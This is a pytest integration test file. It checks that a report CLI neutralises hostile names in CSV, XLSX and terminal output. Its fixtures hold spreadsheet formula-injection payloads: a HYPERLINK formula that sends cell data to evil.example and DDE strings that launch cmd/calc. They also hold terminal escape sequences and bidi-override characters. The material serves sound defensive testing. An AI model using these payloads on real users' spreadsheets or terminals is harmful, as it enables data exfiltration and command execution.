"""python -m collector report on a real database whose names came from hostile kiosks: spreadsheets get
text, never formulas, and the terminal gets no escape sequences or invisible characters."""
import csv
import io
import unicodedata

import pytest
from openpyxl import load_workbook

from collector.storage import records
from collector.storage.db import connect
from tests.integration.test_report_db import run_cli
from tests.unit.test_report_data import rating_rows

OFFICERS = ['=HYPERLINK("http://evil.example/?d="&A1,"Chi tiết")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3",
            "\x1b]0;owned\x07\x1b[2J\x1b[31mĐỏ\u202e\u200bnét\x9b1m"]
SERVICES = ["+cmd|' /C calc'!A0", "\t=1+1", "\r=2+2"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def db_url(tmp_path):
    url = f"sqlite:///{tmp_path / 'hostile.db'}"
    db = connect(url)
    rows = [r._replace(officer=OFFICERS[i % len(OFFICERS)], service=SERVICES[i % len(SERVICES)])
            for i, r in enumerate(rating_rows())]
    with db.transaction():
        db.executemany(records.INSERT_RATING_SQL, rows)
        records.apply(db, records.increments(rows))
    db.close()
    return url


@pytest.mark.parametrize("by, names", [("officer", OFFICERS), ("service", SERVICES)])
def test_csv_report_cells_never_start_a_formula(tmp_path, db_url, by, names):
    out = tmp_path / "r.csv"
    result = run_cli(tmp_path, db_url, "--period", "2026-10", "--by", by, "--format", "csv", "--output", str(out))
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    for name in names:
        assert ("'" + name if name.startswith(FORMULA_START) else name) in cells
    assert ["Tổng cộng", "", "7"] in [r[:3] for r in rows]  # figures are still plain numbers


@pytest.mark.parametrize("by", ["officer", "service"])
def test_xlsx_report_cells_are_text_never_formulas(tmp_path, db_url, by):
    out = tmp_path / "r.xlsx"
    result = run_cli(tmp_path, db_url, "--period", "2026-10", "--by", by, "--format", "xlsx", "--output", str(out))
    assert result.returncode == 0, result.stderr
    sheet = load_workbook(out).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    # marked as typed with a leading apostrophe, so editing the cell does not turn it into a formula
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_START))
    assert '=HYPERLINK("http://evil.example/?d="&A1,"Chi tiết")' in texts or "+cmd|' /C calc'!A0" in texts
    assert all(isinstance(row[2].value, int) for row in sheet.iter_rows(min_row=2))  # counts stay numbers


def test_terminal_table_carries_no_control_or_invisible_characters(tmp_path, db_url):
    result = run_cli(tmp_path, db_url, "--period", "2026-10", "--by", "officer")
    assert result.returncode == 0, result.stderr
    bad = [c for c in result.stdout if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")]
    assert bad == []
    assert "Đỏnét" in result.stdout and "owned" not in result.stdout
    assert '=HYPERLINK("http://evil.example/?d="&A1,"Chi tiết")'[:40] in result.stdout  # visible text stays
